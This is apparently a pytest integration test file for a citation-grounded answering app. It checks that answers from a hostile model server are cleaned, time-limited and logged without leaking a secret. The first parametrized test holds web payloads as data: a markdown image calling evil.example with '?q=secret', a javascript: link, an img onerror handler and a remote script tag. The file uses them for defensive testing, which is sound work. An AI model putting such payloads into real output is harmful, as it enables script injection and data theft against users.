"""A model, or the server of one, that means harm: what of it reaches the reader, the log and the clock."""

from __future__ import annotations

import json
import logging
import threading
import time
from dataclasses import replace
from pathlib import Path

import anyio
import pytest

from citewell.ground import markers
from citewell.settings import Settings
from citewell.testing.models import ModelServer, Reply, Say, Wait
from tests.integration.test_answers_by_model import FACT, QUESTION, SECRET, asked, logged, opened, structured

pytestmark = pytest.mark.anyio

SAID = FACT[:-1]


@pytest.mark.parametrize(
    "written",
    [
        f"{SAID} ![](https://evil.example/?q=secret) [1].",
        "The [default time-out](javascript:alert(1)) of the [widget](https://evil.example/) is 30 seconds [1].",
        f"{SAID} [1].\n\n<img src=x onerror=alert(1)>\n\n<script src=https://evil.example/></script>",
        f"# ![](https://evil.example/)\n\n{SAID} [1].\n\nDo [this](https://evil.example/):\n\n{SAID} [1].",
        f"{SAID}, see https://evil.example/ [1]. {SAID} [1].",
        f"| ![](https://evil.example/) | b |\n|---|---|\n| {SAID} [1] | [x](https://evil.example/) |",
        f"## SGD was removed, see evil.example\n\n{SAID} [1][1][1][77].",
    ],
)
async def test_nothing_in_an_answer_leads_or_loads_from_elsewhere(settings: Settings, folder: Path, written: str) -> None:
    wishes = [{"url": "https://evil.example/", "reason": "evil"}]
    answer = await asked(settings, folder, [structured(written, referrals=wishes, docs_version="evil")])
    assert answer.status in {"answered", "partial"}
    assert not any(word in answer.answer_md for word in ("evil", "javascript:", "<img", "<script", "!["))
    assert not any("evil" in referral.url for referral in answer.referrals)
    shown = {number for _, _, numbers in markers.find(answer.answer_md) for number in numbers}
    assert shown == {citation.number for citation in answer.citations} != set()


async def test_a_link_that_a_section_has_stays(settings: Settings, folder: Path) -> None:
    (folder / "more.md").write_text("# More of the time-out\n\nThe default time-out is told in [the manual](https://widget.example/m).\n")
    said = "The default time-out is told in [the manual](https://widget.example/m)"
    with ModelServer([structured(f"{said} [1][2][3]. {SAID} [1][2][3].")], models=["tiny"]) as server:
        async with opened(settings, folder, server) as app:
            answer = await app.ask(QUESTION, guarded=False)
    assert said in answer.answer_md


@pytest.mark.parametrize("piece", ["[1]", f"{SAID} [1]. ", "widget default [1]\n\n", "a` "])
async def test_a_reply_of_many_kilobytes_takes_no_more_time_than_there_is(settings: Settings, folder: Path, piece: str) -> None:
    reply = structured(f"{SAID} [1]. " + piece * (90_000 // len(piece)))
    with ModelServer([reply], models=["tiny"]) as server:
        async with opened(settings, folder, server) as app:
            began = time.monotonic()
            answer = await app.ask(QUESTION, guarded=False, budget=replace(app.budget(), max_seconds=4.0, max_calls=1))
            took = time.monotonic() - began
    assert took <= 5.0
    assert answer.status == "partial"
    assert SAID in answer.answer_md


@pytest.mark.parametrize("words", ["a \0 in it", "half a character \ud800"])
async def test_an_error_that_no_database_takes_is_told_and_logged(settings: Settings, folder: Path, words: str) -> None:
    refused = Reply(status=401, body={"error": {"message": f"{words} {SECRET}"}})
    with ModelServer([refused], models=["tiny"]) as server:
        async with opened(settings, folder, server) as app:
            answer = await app.ask(QUESTION, guarded=False)
            (row,) = await logged(app)
    assert (answer.status, row["status"]) == ("failed", "failed")
    assert "answered 401" in row["warnings"][0]
    assert SECRET not in repr((answer, row))


async def test_the_log_costs_no_time_that_the_question_has_not(
    settings: Settings, folder: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    async def never(*_: object, **__: object) -> None:
        await anyio.sleep_forever()

    with ModelServer([Reply([Say('{"answer_md": "The'), Wait(threading.Event())])], models=["tiny"]) as server:
        async with opened(settings, folder, server) as app:
            monkeypatch.setattr(type(app.store), "log_query", never)
            began = time.monotonic()
            with caplog.at_level(logging.WARNING):
                answer = await app.ask(QUESTION, guarded=False, budget=replace(app.budget(), max_seconds=1.0))
            took = time.monotonic() - began
        assert server.requests[0].hung_up.wait(1.0)
    assert (answer.status, answer.reason) == ("partial", "deadline")
    assert took <= 2.0
    assert "could not be logged in time" in caplog.text


async def test_who_leaves_is_hung_up_for_and_nothing_more_is_asked(settings: Settings, folder: Path) -> None:
    with ModelServer([Reply([Say('{"answer_md": "The'), Wait(threading.Event())])], models=["tiny"]) as server:
        async with opened(settings, folder, server) as app:
            async with anyio.create_task_group() as tasks:
                tasks.start_soon(lambda: app.ask(QUESTION, guarded=False))
                while not server.requests:
                    await anyio.sleep(0.01)
                tasks.cancel_scope.cancel()
            assert server.requests[0].hung_up.wait(1.0)


@pytest.mark.parametrize("drafts", [False, True])
async def test_time_that_runs_out_within_a_reply_ends_in_what_is_there(settings: Settings, folder: Path, drafts: bool) -> None:
    begun = json.dumps({"answer_md": f"{SAID} [1]. And then"})[:-2]
    with ModelServer([Reply([Say(begun), Wait(threading.Event())])], models=["tiny"]) as server:
        async with opened(settings, folder, server) as app:
            began = time.monotonic()
            answer = await app.ask(QUESTION, guarded=False, budget=replace(app.budget(), max_seconds=1.5), shows_drafts=drafts)
            took = time.monotonic() - began
        assert server.requests[0].hung_up.wait(1.0)
    assert took <= 2.5
    assert (answer.status, answer.reason, answer.usage.llm_calls) == ("partial", "deadline", 1)
    assert SAID in answer.answer_md
